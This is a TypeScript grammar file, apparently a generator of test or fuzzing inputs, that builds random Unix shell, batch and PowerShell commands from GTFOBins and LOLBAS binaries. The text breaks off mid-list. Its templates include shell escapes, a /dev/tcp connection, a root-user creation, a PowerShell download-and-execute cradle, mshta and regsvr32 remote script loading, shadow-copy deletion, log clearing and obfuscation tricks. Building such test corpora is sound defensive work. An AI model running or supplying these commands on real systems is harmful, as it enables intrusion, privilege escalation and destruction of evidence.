// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/**
 * The vocabulary of commands: binaries that GTFOBins (Unix) and LOLBAS (Windows) document as means of an attack, and
 * the syntax of the shells around them. `shell.ts` builds whole command lines of it.
 */
import { lines, type Rules, words } from "../lib/grammar.ts";

export const COMMANDS: Rules = {
  gtfo: words`
    7z aa-exec ab acr agetty alpine ansible-playbook ansible-test aoss apache2ctl apt apt-get ar aria2c arj arp as ascii-xfr ascii85 ash
    aspell asterisk at atobm awk aws base32 base58 base64 basenc basez bash bashbug batcat bc bconsole bee borg bpftrace bridge bundle bundler
    busctl busybox byebug bzip2 c89 c99 cabal cancel capsh cargo cat cdist certbot check_by_ssh check_cups check_log check_memory check_raid
    check_ssl_cert check_statusfile chmod choom chown chroot chrt clamscan clisp cmake cmp cobc code codex column comm composer
    cowsay cowthink cp cpan cpio cpulimit crash crontab crystal csh csplit csvtool ctr cupsfilter curl cut dash date dc dd debugfs
    dhclient dialog diff dig distcc dmesg dmidecode dmsetup dnf docker dos2unix dosbox dotnet dpkg dstat dvips easy_install easyrsa eb ed efax
    egrep elvish emacs enscript env eqn espeak ex exiftool expand expect facter fail2ban-client fastfetch ffmpeg fgrep file find finger firejail fish flock fmt
    fold forge fping ftp fzf gawk gcc gcloud gcore gdb gem genie genisoimage getent ghc ghci gimp ginsh git gnuplot go grc grep gtester guile
    gzip hashcat hd head hexdump hg highlight hping3 iconv iftop install ionice ip iptables-save irb ispell java jjs joe join
    journalctl jq jrunscript jshell jtag julia knife ksh ksshell ksu kubectl last lastb latex latexmk ld.so ldconfig less lftp links ln
    loginctl logrotate logsave look lp lscpu lsof ltrace lua lualatex luatex lwp-download lwp-request lxd m4 mail mailx make man mawk minicom more
    mosh-server mosquitto mount msfconsole msgattrib msgcat msgconv msgfilter msgmerge msguniq mtr multitime mutt mv mypy mysql nano nasm nawk
    nc ncat ncdu ncftp neofetch nft nginx nice nl nm nmap node nohup npm nroff nsenter ntpdate nvim octave od opencode openssl openvpn openvt opkg
    pandoc passwd paste pax pdb pdflatex pdftex perf perl perlbug pexec pg php pic pico pidstat pip pipx pkexec pkg plymouth podman poetry posh pr procmail
    pry psftp psql ptx puppet pwsh pygmentize pyright python qpdf rake ranger rc readelf red redcarpet redis restic rev rlogin rlwrap rpm rpmdb rpmquery
    rpmverify rsync rsyslogd rtorrent ruby run-mailcap run-parts runscript rustc rustdoc rustfmt rustup rview rvim sash scanmem scp
    screen script scrot sed service setarch setcap setfacl setlock sftp sg sh shred shuf slsh smbclient snap socat socket soelim softlimit
    sort split sqlite3 sqlmap ss ssh ssh-agent ssh-copy-id ssh-keygen ssh-keyscan sshfs sshpass start-stop-daemon stdbuf strace strings
    su sudo sysctl systemctl systemd-resolve systemd-run tac tail tailscale tar task taskset tasksh tbl tclsh tcpdump tcsh tdbtool tee
    telnet terraform tex tftp tic time timedatectl timeout tmate tmux top torify torsocks troff tsc tshark ul unexpand uniq unshare unsquashfs
    unzip update-alternatives urlget uuencode uv vagrant valgrind varnishncsa vi view vigr vim vimdiff vipw virsh volatility w3m wall watch wc wget whiptail
    whois wireshark wish wc xargs xdg-user-dir xdotool xelatex xetex xmodmap xmore xpad xxd xz yarn yash yelp yt-dlp yum zathura zcat zic zip zless
    zsh zsoelim zypper`,
  gtfoflag: [
    "-«letter»",
    "-«letter»«letter»",
    "--«rnd»",
    "--«help|version|all|list|exec|file|eval|config|output|user|force»",
    "-«letter» «rnd»",
    "-«Letter»",
    "--«rnd»=«rnd»",
    "-«l|a|la|h|r|R|f|v|n|p|c|e»",
    "«small»",
    "-«small»",
  ],
  gtfofile: [
    "«unixfile»",
    "«unixfile»",
    "/tmp/«rnd»",
    "/«etc|tmp|var|home|root|opt|usr|bin|dev|proc|sys|boot|srv|mnt»",
    "/«etc|var|home»/«rnd»",
    "../«rnd»",
    "~/«homefile»",
    "/etc/p*",
    "./«rnd».sh",
    "*",
    "/",
    "..",
    "/etc/*",
    "$HOME",
    "$PWD/«rnd»",
  ],
  gtfouse: [
    ["«gtfo» «gtfofile»", 6],
    ["«gtfo» «gtfoflag» «gtfofile»", 6],
    ["«gtfo» «gtfoflag»", 5],
    ["«gtfo»", 5],
    ["«bin»«gtfo»", 3],
    ["«bin»«gtfo» «gtfoflag»", 3],
    ["«bin»«gtfo» «gtfofile»", 3],
    ["«gtfo» «host»", 1],
    ["«gtfo» «gtfoflag» «url»", 1],
    ["«gtfo»  «gtfofile»", 1],
    ["«gtfo»\t«gtfofile»", 1],
    ['«gtfo» "«gtfofile»"', 0.7],
    ["«gtfo» '«gtfofile»'", 0.7],
    ["«gtfo» < «gtfofile»", 0.7],
    ["«gtfo» > /tmp/«rnd»", 0.7],
    ["«gtfo» «gtfofile» | «gtfo»", 1],
    ["«gtfo» «gtfoflag» | «gtfo» «gtfoflag»", 1],
    ["«gtfo» && «gtfo»", 0.5],
    ["«gtfotrick»", 5],
  ],
  gtfotrick: lines`
    find . -exec /bin/sh \; -quit
    find «/|.|/etc|/var/www» -«name|iname|type|perm|user|mtime|size» «*.«ext»|f|-4000|root|-1|+10M» -«print|ls|delete|exec «tool» {} \;»
    awk 'BEGIN {system("«/bin/sh|id|«tool»»")}'
    awk -F: '{print $«small»}' «unixfile»
    sed -n '«small»,«int»p' «unixfile»
    sed -n '1e exec sh 1>&0' «unixfile»
    vim -c ':!/bin/sh'
    vi -c ':py import os; os.execl("/bin/sh","sh")'
    tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
    tar xf /dev/null -I '/bin/sh -c "sh <&2 1>&2"'
    zip /tmp/«rnd».zip /etc/hosts -T -TT 'sh #'
    env /bin/sh
    nmap --script=/tmp/«rnd».nse
    less «unixfile»
    xxd «unixfile» | xxd -r
    base«32|64|nc» «unixfile» | base«32|64» «-d|--decode»
    xargs -a /dev/null sh
    git -p help config
    gdb -nx -ex '!sh' -ex quit
    gcc -wrapper /bin/sh,-s .
    dd if=«unixfile» of=/tmp/«rnd»
    socat stdin exec:/bin/sh
    openssl enc -in «unixfile»
    openssl s_server -quiet -key key.pem -cert cert.pem -port «port»
    php -«r|a|S» «q»«system|exec|passthru»("«look»");«q»
    python«|2|3» -c «q»import os; os.«system|popen»("«look»")«q»
    perl -e «q»exec "/bin/sh";«q»
    ruby -e «q»exec "/bin/sh"«q»
    lua -e «q»os.execute("/bin/sh")«q»
    node -e «q»require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})«q»
    docker run -v /:/mnt --rm -it alpine chroot /mnt sh
    kubectl «get|describe|exec|run» «pods|secrets|nodes|-it «rnd» -- sh»
    systemctl «status|link|enable|start|stop|restart» «/tmp/«rnd».service|«sshd|nginx|cron|docker»»
    journalctl -«xe|u «rnd»|n «int»»
    crontab -«e|l|r»
    ssh -o ProxyCommand=';sh 0<&2 1>&2' x
    scp -S /tmp/«rnd» x y:
    rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
    ip netns exec «rnd» /bin/sh
    ip -force -batch «unixfile»
    busybox «sh|wget|nc|httpd -f -p «port»|cat «unixfile»|ls|telnetd»
    wc --files0-from «unixfile»
    date -f «unixfile»
    file -f «unixfile»
    diff --line-format=%L /dev/null «unixfile»
    cut -d "" -f1 «unixfile»
    strings «unixfile»
    stdbuf -i0 /bin/sh
    taskset 1 /bin/sh
    timeout --foreground 7d /bin/sh
    screen -x «rnd»
    tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/«rnd»
    mysql -e '\! /bin/sh'
    mysql«|dump» -u«root|«rnd»» -p«|«rnd»» «-e "«select|show» «rnd»"|--all-databases»
    sqlite3 /dev/null '.shell /bin/sh'
    psql -c '\! «look»'
    ping -c «small» «127.0.0.1|localhost|«host»|«ip»»
    ping «127.0.0.1|localhost|«host»» -«n|c» «small»
    ls -«la|l|lah|R|a|1|alh|ltr» «gtfofile»
    ls «gtfofile»
    cat «gtfofile» «gtfofile»
    cat -«n|A|e|v» «gtfofile»
    ps -«ef|aux|e -o pid,cmd|u root»
    who -«a|b|q|u|H»
    uname -«a|r|m|s|v|n|o|p»
    stat «unixfile»
    du -sh «gtfofile»
    df -h
    free -m
    chmod -R 777 «gtfofile»
    useradd -ou 0 -g 0 «rnd»
    echo «rnd» | tee -a «unixfile»
    mkfifo /tmp/«rnd»
    nohup /bin/sh -c "sh <$(tty) >$(tty)"`,

  /** Syntax of Unix shells, on its own or around a command. */
  unixsyntax: lines`
    alias «rnd2»=«q»«gtfouse»«q»
    alias «rnd»=«gtfo»
    unalias «-a|«gtfo»»
    export «PATH|LD_PRELOAD|HISTFILE|IFS|PS1|BASH_ENV|TERM»=«/tmp/«rnd»|/dev/null|/tmp:$PATH|xterm|«rnd».so»
    export -«f|p|n» «rnd»
    declare -«a|A|i|x|f|r|p|F» «rnd»«=«gtfo»|»
    typeset -«x|f|i» «rnd»
    readonly «rnd»=«gtfo»
    local «rnd»=$(«gtfo»)
    set «-x|-e|-o vi|-- «rnd»|+o history»
    unset «HISTFILE|PATH|LD_PRELOAD|«rnd»»
    eval «gtfouse»
    eval "«gtfouse»"
    eval $«rnd»
    eval "$(echo «base64» | base64 -d)"
    exec «gtfouse»
    exec «small»<>/dev/tcp/«ip»/«port»
    source «gtfofile»
    . «gtfofile»
    command «gtfo» «gtfofile»
    builtin «echo|cd|eval|exec» «rnd»
    builtin «gtfo»
    hash -r; «gtfo»
    type «gtfo»
    type -a «gtfo»
    !-«small»
    !!
    !$
    !«gtfo»
    !?«rnd»?
    !:«small»*
    !«int»
    ^«rnd»^«gtfo»^
    fc -«l|s|e -»
    history «-c|-w /dev/null|| «gtfo»»
    {«gtfo»,«gtfofile»}
    {«gtfo»,-«letter»«letter»}
    {«gtfo»,«gtfoflag»,«gtfofile»}
    {,«gtfo»,«gtfofile»}
    {"«gtfo»","«gtfofile»"}
    {«gtfo»,/???/p??s??}
    «gtfo» {«rnd»,«rnd»}.«ext»
    \${PATH#«/*|*:|«rnd»»}
    \${PATH##*«/|:»}
    \${PATH%%:*}/«gtfo»
    \${HOME:0:1}«bin|etc|usr»\${HOME:0:1}«gtfo»
    \${«rnd»:-«gtfo»} «gtfofile»
    \${«rnd»:=«gtfo»}
    \${«rnd»:+«gtfo»}
    \${«rnd»:?«rnd»}
    \${«v=rnd»//«letter»/«letter»}
    \${«rnd»/«rnd»/«gtfo»}
    \${«rnd»^^}
    \${!«rnd»}
    \${!«rnd»*}
    \${#«PATH|HOME|«rnd»»}
    \${«PATH|SHELL|BASH|PWD|HOME|UID|IFS|RANDOM|HOSTNAME|OLDPWD|BASHOPTS|LINENO»:«digit»:«digit»}
    $«PATH|SHELL|BASH|PWD|HOME|UID|IFS|RANDOM|HOSTNAME|OLDPWD|USER|LOGNAME|PPID|TERM»
    $'\«oct2»\«oct2»\«oct2»' «gtfofile»
    $'\x«hex2»\x«hex2»\x«hex2»'
    $'«gtfo»' $'«gtfofile»'
    $"«gtfo»" «gtfofile»
    «gtfo» <<< «rnd»
    «gtfo» <<< "$(«gtfo» «gtfofile»)"
    «gtfo» <<«v=Rnd»
    «gtfo» <(«gtfouse»)
    «gtfo» <(«gtfo») <(«gtfo»)
    «gtfo» >(«gtfo»)
    «gtfo» < «gtfofile» > /tmp/«rnd»
    «gtfo» «small»>&«small»
    «gtfo» &> /dev/null
    «gtfo» |& «gtfo»
    $((«int»«+|-|*|/|%|**|<<|^»«int»))
    $[«int»«+|*|-»«int»]
    ((«rnd2»=«int»)) && «gtfo»
    let «rnd2»=«int»«+|*|-»«int»
    let «rnd2»++
    /«b?n|bi?|???|[b]in|b*n|usr/b?n»/«c?t|l?|?d|w?o|n?|ba?h|s?|who*|un*e|p?ng|c*l|wg?t» «/etc/passwd|/e??/p*d|/etc/p?ss*|»
    /«b?n|bi?|???»/«c[a]t|[l]s|b[a-z]sh|[c-n]at|i[d]|c[!x]t»
    «/bin|/usr/bin»/«letter»*«letter» «gtfofile»
    for «v=rnd2» in «$(«gtfo»)|*|/etc/*|{1..«int»}|a b c»; do «gtfo» $«$v»; done
    for ((;;)); do «gtfo»; done
    while :; do «gtfouse»; done
    while read -r «v=letter»; do echo $«$v»; done < «gtfofile»
    until «gtfo»; do «gtfo»; done
    if [ «-f|-d|-e|-r|-x» «gtfofile» ]; then «gtfo»; fi
    if [[ $«rnd» == «rnd» ]]; then «gtfouse»; fi
    [ «-f|-d|-e|-r|-z» «gtfofile» ] && «gtfo»
    [[ «-f|-e|-n» «gtfofile» ]] || «gtfo»
    test «-f|-d|-e» «gtfofile» && «gtfo»
    case $«rnd» in *) «gtfo»;; esac
    select «rnd2» in *; do «gtfo»; done
    «rnd»() { «gtfouse»; }; «rnd»
    function «rnd» { «gtfo»; }
    («gtfouse»)
    ( «gtfo»; «gtfo» )
    { «gtfouse»; }
    «v=rnd2»=«gtfo»; $«$v»
    «v=rnd2»=«gtfo» && $«$v» «gtfofile»
    «v=letter»=«letter»«w=letter»;$«$v»$«$w»
    «Letter»=«rnd» «gtfo» «gtfofile»
    LD_PRELOAD=/tmp/«rnd».so «gtfo»
    IFS=,;«gtfo»
    IFS=«letter»;«v=rnd2»=«gtfo»«letter»«gtfofile»;$«$v»
    trap «q»«gtfo»«q» «0|EXIT|INT|DEBUG»
    kill -«9|HUP|l|STOP» «$$|-1|«int»|%1»
    jobs; fg %«small»
    «gtfo» & disown
    umask «000|022|077»
    ulimit -«a|n «int»|c unlimited»
    time «gtfouse»
    nice -n «int» «gtfo»
    nohup «gtfo» &
    sudo -«u root|l|i|s|S|n» «gtfo»
    su «-|root -c «gtfo»|-c «q»«gtfo»«q»»
    echo -e "\x«hex2»\x«hex2»\x«hex2»"
    echo $«PATH|HOME|SHELL|USER|IFS|0|$|RANDOM|«rnd»»
    echo \${«PATH|HOME|SHELL|«rnd»»}
    echo «gtfo» | sh
    echo «rnd»; «gtfo»
    printf "%«s|b|d|x»" «rnd»
    read «rnd2» < «gtfofile»
    mapfile -t «rnd» < «gtfofile»
    cd «/|/tmp|..|~|-|/var/www» && «gtfo»
    cd \${OLDPWD}
    ~root
    ~«unixuser»/«homefile»`,
  oct2: (rng) => rng.int(32, 126).toString(8),

  lolbas: words`
    addinutil appinstaller aspnet_compiler at atbroker bash bcdboot bcdedit bitsadmin bootcfg certoc certreq certutil change chkdsk chkntfs choice cipher
    cleanmgr clip cmd cmdkey cmdl32 cmstp colorcpl comp compact computerdefaults configsecuritypolicy conhost control convert cscript csc csvde
    cusrmgr customshellhost datasvcutil debug defrag desktopimgdownldr devicecredentialdeployment dfsvc diantz diskpart diskperf diskraid diskshadow dism
    djoin dnscmd dnx doskey dotnet driverquery dsacls dsadd dsget dsmod dsquery dsrm dtutil dump64 dxcap ecmangen endlocal eventcreate eventquery eventtriggers eventvwr
    evntcmd excel expand explorer extexport extrac32 fc fciv findstr finger fltmc fodhelper fondue format forfiles fsi fsianycpu fsutil ftp ftype getmac
    gpfixup gpresult gpscript gpupdate graftabl hh icacls ie4uinit iediagcmd iexpress ilasm imewdbld infdefaultinstall inetinfo installutil iisreset ipconfig
    ipseccmd ipxroute irftp jetpack jsc klist ktmutil ktpass label ldifde ldp lodctr logman logoff lpq lpr makecab manage-bde mavinject mftrace
    microsoft.workflow.compiler mklink mmc mode mountvol mpcmdrun msbuild msconfig msdeploy msdt msedge mshta msiexec msohtmled mspub msra mstsc msxsl nbtstat
    net net1 netdiag netdom netsh netstat ngen nltest nslookup ntbackup ntdsutil ntfrsutl odbcconf offlinescannershell onedrivestandaloneupdater openfiles pathping
    pcalua pcwrun pentnt perfmon pktmon pnputil powerpnt powershell presentationhost print printbrm procdump protocolhandler proxycfg psexec psr pushd pwsh qappsrv qprocess
    query quser rasautou rasdial rcsi rdrleakdiag recover redircmp reg regasm regedit regini register-cimprovider regsvcs regsvr32 relog replace robocopy route rpcping
    rpcinfo rundll32 runas runexehelper runonce runscripthelper sc schtasks scriptrunner sdelete secedit setres settingsynchost setx sfc shadow shutdown sigverif sqldumper sqlps sqltoolsps
    squirrel ssh stordiag subst sxstrace syncappvpublishingserver systeminfo systempropertiesadvanced takeown taskkill tasklist taskmgr te teamviewer telnet tftp timeout tpmvscmgr tracerpt tracert tree ttdinject tttracer tsdiscon tscon
    tskill typeperf unlodctr unregmp2 update vbc verclsid verifier visualuiaverifynative vsiisexelauncher vsjitdebugger vsls-agent vssadmin vssvc w32tm wab waitfor wbadmin wbemtest wecutil
    wevtutil wfc where whoami winget winhlp32 winrm winrs winsat winword wlrmdr wmic workfolders wscript wsl wsreset wt wuauclt xcopy xwizard zipfldr`,
  batchword: words`
    assoc attrib break call cd chcp chdir cls color copy date del dir doskey echo endlocal erase exit find findstr ftype goto md mkdir mklink more move path pause popd
    prompt pushd rd rem ren rename replace rmdir set setlocal shift sort start time title tree type ver verify vol xcopy`,
  lolext: ["«»", "«»", "«»", ".exe", ".exe", ".EXE", ".com"],
  lolpath: [
    "«»",
    "«»",
    "«»",
    "«»",
    "«»",
    "c:\\windows\\system32\\",
    "C:\\Windows\\SysWOW64\\",
    "%SystemRoot%\\System32\\",
    "%windir%\\",
    "C:/Windows/System32/",
    "..\\..\\windows\\system32\\",
    "%ProgramFiles%\\«rnd»\\",
    "%comspec% /c ",
    "cmd /c ",
    "start ",
    "start /b ",
    'start "" ',
    "call ",
    "@",
  ],
  lolflag: [
    "/«letter»",
    "/«Letter»",
    "/?",
    "/«rnd»",
    "-«letter»",
    "-«rnd»",
    "/«letter»:«rnd»",
    "/«letter»:«int»",
    "/«rnd»=«rnd»",
    "/«letter» /«letter»",
  ],
  lolfile: [
    "«rnd».«exe|dll|txt|inf|bat|ps1|vbs|js|hta|sct|xml|cab|msi|zip|reg|ini|dat|cpl|chm|rsp|wsf|cmd»",
    "«drive»«winfile»",
    "c:\\«windows|temp|users|users\\public|inetpub\\wwwroot|programdata»\\«rnd».«exe|txt|dll|bat»",
    "%«TEMP|APPDATA|USERPROFILE|SYSTEMROOT|PUBLIC|WINDIR»%\\«rnd».«exe|txt|dll»",
    "\\\\«host»\\«rnd»\\«rnd».«dll|exe|sct|txt»",
    ".\\«rnd».«exe|bat|ps1»",
    "c:\\",
    "*.«txt|log|exe|*»",
  ],
  loluse: [
    ["«lolpath»«lolbas»«lolext» «lolflag»", 6],
    ["«lolpath»«lolbas»«lolext» «lolflag» «lolfile»", 6],
    ["«lolpath»«lolbas»«lolext» «lolfile»", 5],
    ["«lolpath»«lolbas»«lolext»", 5],
    ["«lolbas»«lolext» «lolflag» «rnd» «lolflag» «rnd»", 2],
    ["«lolbas»«lolext» «lolfile» «lolfile»", 1],
    ["«lolbas»«lolext» «lolflag» «url»", 2],
    ["«lolbas»«lolext» «rnd»", 1],
    ["«lolbas»«lolflag»", 1],
    ["«batchword» «lolfile»", 2],
    ["«batchword» «lolflag» «lolfile»", 2],
    ["«batchword» «lolflag»", 1],
    ["«loltrick»", 10],
  ],
  loltrick: lines`
    bcdboot c:\windows«| /s «letter»:|/l en-us|/v»
    bcdedit «| /enum all|/set {default} recoveryenabled no|/set testsigning on|/v»
    certreq -«Post -config «url» «lolfile»|submit|new «lolfile»|accept»
    certutil -«urlcache -f|encode|decode|dump|hashfile|ping|store|addstore root|verifyctl» «lolfile»
    cmstp«.exe|» /«s|ni /s|au|ns» «lolfile»
    esentutl«.exe|» /«y|vss|p|d» «lolfile» /d «lolfile» «| /o»
    expand «\\«host»\«rnd».cab|«lolfile»» «lolfile»
    extrac32 /«Y|C» «lolfile» «lolfile»
    forfiles«| /p c:\«windows|users|»»«| /s»«| /m *.«txt|exe|*»» /c "cmd /c «echo @file|«winlook»|del @path»"
    ftp -s:«lolfile»
    ftp -«A|n|i|v» «host»
    hh«.exe|» «url|lolfile»
    hh.exe -«decompile|«rnd»» «lolfile»
    infdefaultinstall«.exe|» «lolfile»
    installutil«.exe|» /«logfile= /LogToConsole=false /U|U|I» «lolfile»
    makecab «lolfile» «lolfile»:«rnd»
    mavinject«.exe|» «int4» /INJECTRUNNING «lolfile»
    msbuild«.exe|» «lolfile|/version|/t:«rnd»|/p:«rnd»=«rnd»»
    msdt.exe -path C:\WINDOWS\diagnostics\index\PCWDiagnostic.xml -af «lolfile» /skip TRUE
    mshta «"javascript:a=GetObject('script:«url»').Exec();close();"|«lolfile»|«url»|vbscript:«rnd»»
    msiexec /«q|quiet|i|y|z» «/i |»«url»
    netsh «add helper|trace start capture=yes|interface portproxy add v4tov4|wlan show profile|firewall show config|advfirewall set allprofiles state off|int ip show config» «lolfile»
    net «user|group|localgroup|share|view|use|start|stop|time|session|file|accounts|config|statistics|send|continue|pause|print|name|computer» «rnd»«| /«add|delete|domain|all»»
    net1 «user|group|stop|start» «rnd»
    odbcconf«.exe|» /«a {REGSVR «lolfile»}|f «lolfile»|s /a {regsvr «lolfile»}»
    pcalua«.exe|» -a «lolfile»
    pcwrun.exe «lolfile»
    presentationhost.exe «lolfile»
    print /D:«lolfile» «lolfile»
    reg «add|query|delete|export|import|save|load|copy|compare|restore» HK«LM|CU|CR|U|EY_LOCAL_MACHINE»\«SOFTWARE|SAM|SYSTEM|SECURITY|Software\Microsoft\Windows\CurrentVersion\Run|«Rnd»»«| /v «rnd»| /f| /s| /t REG_SZ /d «rnd»»
    regasm«.exe|» /U «lolfile»
    regedit«.exe|» /«s|e|i» «lolfile»
    regsvcs«.exe|» «lolfile»
    regsvr32«.exe|» «/s|/s /u|/s /n /u» /i:«url|lolfile» scrobj.dll
    replace «lolfile» «lolfile» /A
    rundll32«.exe|» «shell32|advpack|ieadvpack|url|zipfldr|setupapi|syssetup|shdocvw|pcwutl|mshtml|comsvcs|dfshim|davclnt»«.dll|»,«ShellExec_RunDLL|LaunchINFSection|OpenURL|RouteTheCall|InstallHinfSection|Control_RunDLL|RegisterOCX|MiniDump|#«small»» «lolfile»
    runonce.exe /alternateshellstartup
    runscripthelper.exe surfacecheck \\?\«lolfile» «lolfile»
    sc«.exe|» «query|create|config|start|stop|delete|qc|sdshow|enumdepend» «rnd»«| binPath= «lolfile»| type= own| start= auto»
    schtasks«.exe|» /«create|query|run|delete|change|end» «/tn «rnd»|/tr «lolfile»|/sc minute /mo «small»|/fo LIST /v|/s «host»»
    scriptrunner«.exe|» -appvscript «lolfile»
    syncappvpublishingserver.exe "n;«psone»"
    tasklist /«v|svc|m|s «host»|fi "«rnd» eq «rnd»"»
    taskkill /«f /im|pid|im» «lolfile»
    verclsid.exe /S /C {«hex8»-«hex4»-«hex4»-«hex4»-«hex8»«hex4»}
    vssadmin «delete shadows /all /quiet|list shadows|create shadow /for=c:»
    wevtutil «cl|qe|el» «System|Security|Application|«rnd»»
    wbadmin delete catalog -quiet
    wmic «process|os|useraccount|service|product|logicaldisk|bios|qfe|computersystem|nic|startup|share|group» «get «name|caption|/all|«rnd»»|list «brief|full»|call «create|terminate» "«rnd»"|where name='«rnd»' delete»
    wmic.exe process get brief /format:"«url»"
    wscript«.exe|» «//e:vbscript |//b |»«lolfile»
    cscript«.exe|» «//nologo|//e:jscript|/b» «lolfile»
    wsl«.exe|» «-e |»«gtfouse»
    xwizard «RunWizard {«hex8»-«hex4»-«hex4»-«hex4»-«hex8»«hex4»}|RunWizard /u /t«rnd»»
    control.exe «lolfile»
    diskshadow«.exe|» /s «lolfile»
    dnscmd «host» /config /serverlevelplugindll «lolfile»
    bitsadmin /«create|addfile|transfer|SetNotifyCmdLine|resume|complete|reset|list» «rnd» «url» «lolfile»
    at «host» «small»:00 «lolfile»
    icacls «lolfile» /«grant|deny|remove|reset|T» «rnd»:F
    cacls «lolfile» /e /g everyone:f
    takeown /f «lolfile»
    attrib «+|-»«h|s|r|a» «lolfile»
    xcopy «lolfile» «lolfile» /«s|e|y|q»
    robocopy «lolfile» «lolfile» /«mir|e|s»
    subst «letter»: «lolfile»
    nltest /«domain_trusts|dclist:«rnd»|dsgetdc:«rnd»»
    nslookup -«type|query»=«any|txt|mx» «host»
    cmdkey /«list|add:«host» /user:«rnd» /pass:«rnd»|delete»
    whoami /«all|priv|groups|user|fo list»
    runas /«user:«rnd»|noprofile|savecred» «lolfile»
    quser; query «user|session|process|termserver»
    ver & «lolbas»
    powershell«.exe|» «psone»
    powershell«.exe|» «-c|-command|-nop|-w hidden|-ep bypass|/c|-File» «psone»`,

  batch: lines`
    FOR «/L|/F|/D|/R|» %«a|i|x|G|«letter»» IN («1,1,«int»|«int»,«int»,«int»|*|*.*|*.«ext»|c:\*|'«loluse»'|«rnd» «rnd»|"«rnd»"|«lolfile»») DO «batchdo»
    for «/l|/f|/d|/r c:\|» %%«letter» in («1,1,«int»|*.*|«rnd»|'«lolbas»'») do «batchdo»
    for /f «"tokens=«small»,«small»"|"delims="|"tokens=* delims="|"usebackq"|"skip=«small»"» %«letter» in («'«loluse»'|«lolfile»|\`«lolbas»\`») do «batchdo»
    FOR %«letter» IN («rnd») DO «batchdo»
    FOR /«L|F|D» %«letter» IN (
    IF EXIST «lolfile» «batchdo»
    if not exist «lolfile» «batchdo»
    IF «NOT |»DEFINED «rnd|PATH|TEMP» «batchdo»
    if «not |»errorlevel «small» «batchdo»
    IF «NOT |»ERRORLEVEL «digit» («batchdo»)«| ELSE («batchdo»)»
    IF «/I |»«int» «EQU|NEQ|LSS|LEQ|GTR|GEQ|==» «int» «batchdo»
    if «/i |»"%«rnd»%"=="«rnd»" «batchdo»
    IF %«rnd»%==«rnd» «batchdo»
    if cmdextversion «small» «batchdo»
    SET «v=rnd2»=«rnd» & echo %«$v»%
    set «v=rnd2»=«lolbas»&&call %«$v»%
    set «v=letter»=«lolbas» & %«$v»%
    SET /A «rnd2»=«int»«+|*|-»«int»
    set /p «rnd2»=«rnd»
    set «v=letter»=«letter»«letter»& set «w=letter»=«letter»«letter»& %«$v»%%«$w»%
    %«COMSPEC|PATH|PATHEXT|TEMP|TMP|USERNAME|USERDOMAIN|COMPUTERNAME|OS|SYSTEMROOT|APPDATA|PROGRAMFILES|WINDIR|CD|RANDOM|ERRORLEVEL»%
    %«COMSPEC|PATH|TEMP|USERNAME|OS|SYSTEMROOT|PROGRAMFILES|WINDIR|CommonProgramFiles»:~«digit|-«digit»»,«digit|-«digit»»%
    %«PATH|TEMP|OS»:«rnd2»=«rnd2»%
    %~«dp0|f1|n0|$PATH:1»
    echo %«USERNAME|PATH|OS|COMPUTERNAME|CD|TEMP|USERPROFILE|DATE|RANDOM»%
    echo «rnd» «>|>>» «lolfile»
    echo off & «lolbas»
    @echo off & «loluse»
    @«loluse»
    («loluse») & («lolbas»)
    «lolbas» > nul 2>&1
    «loluse» | «find|findstr|more|clip|sort» «"«rnd»"|»
    «lolbas» && «lolbas»
    «lolbas» || «lolbas»
    call :«rnd»
    goto «:eof|«rnd»»
    setlocal enabledelayedexpansion & «lolbas»
    cmd /v:on /c "set «v=rnd2»=«rnd»&!«$v»!"
    cmd«.exe|» /«c|k|r|q /c|s /c|e:on /c|a /c|d /c» «loluse»
    cmd«.exe|» /«c|k» "«loluse»"
    start «/b |/min |/wait |»«lolfile»
    pushd «\\«host»\«rnd»|«lolfile»» & «lolbas»
    mklink /«D|J|H» «rnd» «lolfile»
    type «lolfile»
    dir «/s|/b|/a|/s /b|/q|/r» «lolfile»
    copy «/y |/b |»«lolfile» «lolfile»
    del «/f |/q |/s |/f /s /q |»«lolfile»
    rd /s /q «lolfile»
    md «lolfile»`,
  batchdo: [
    "echo %«letter»",
    "@echo %%«letter»",
    "«lolbas»",
    "«loluse»",
    "call «lolfile»",
    "start «lolfile»",
    "del «lolfile»",
    "(«lolbas»)",
    "set «rnd2»=%«letter»",
    "goto «rnd»",
    "type «lolfile»",
    "@«lolbas»",
    "ping -n 1 «host»",
  ],

  psalias: words`
    ac asnp cat cd clc clear clhy cli clp cls clv cnsn compare copy cp cpi cpp curl cvpa dbp del diff dir dnsn ebp echo epal epcsv epsn erase etsn exsn fc fhx fl foreach ft fw gal gbp gc gci gcm gcs gdr ghy gi gin gjb gl gm gmo gp gps gpv group
    gsn gsnp gsv gtz gu gv gwmi h history icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill ls man md measure mi mount move mp mv nal ndr ni nmo npssc nsn nv ogv oh popd ps pushd pwd r rbp rcjb rcsn rd rdr ren ri rjb rm rmdir rmo rni rnp rp
    rsn rsnp rujb rv rvpa rwmi sajb sal saps sasv sbp sc scb select set shcm si sl sleep sls sort sp spjb spps spsv start stz sujb sv swmi tee trcm type wget where wjb write`,
  psone: [
    "«psverb»-«psnoun» «psparam»",
    "«psverb»-«psnoun» «psparam» «psparam»",
    "«psverb»-«psnoun» «lolfile» «psparam»",
    "«psalias» «psparam»",
    "«psalias» «psparam» «psparam»",
    "«psalias» «lolfile» «psparam»",
    "«psverb»-«psnoun» | «psalias» «psparam»",
    "«psverb»-«psnoun» «psparam» | «psverb»-«psnoun»",
    "$«v=rnd2»=«psverb»-«psnoun»;$«$v»",
    "$«v=rnd»='«url»';«iwr|irm|curl|wget» $«$v»|iex",
    "& («q»«rnd2»«q»+«q»«rnd2»«q») «lolfile»",
    "&(gcm *«rnd2»-e*) «rnd»",
    ".('{1}{0}'-f'«rnd2»','«rnd2»')",
    "[«Rnd».«Rnd»]::«Rnd»(«q»«rnd»«q»)",
    "[char]«asciicode»+[char]«asciicode»+[char]«asciicode»",
    "[System.Environment]::«Exit|GetEnvironmentVariables|UserName|MachineName|OSVersion»",
    "1..«int»|%{«psalias» $_}",
    "gci «lolfile»|?{$_.«rnd» -«eq|like|match|ne|gt» «q»«rnd»«q»}",
    "if($«rnd» -«eq|ne|like» $«null|true»){«psverb»-«psnoun»}",
    "foreach($«v=letter» in «psalias»){$«$v»}",
